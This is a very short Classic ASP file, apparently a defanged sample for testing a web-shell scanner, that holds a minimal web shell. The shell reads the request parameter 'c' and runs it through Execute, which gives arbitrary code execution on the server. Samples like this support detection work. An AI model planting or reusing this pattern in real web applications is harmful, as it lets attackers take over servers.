<% If Then DEFANGED %>
<%' DEFANGED vigil test sample (see README) %>
<%
Dim c
c = Request("c")
Execute c
%>
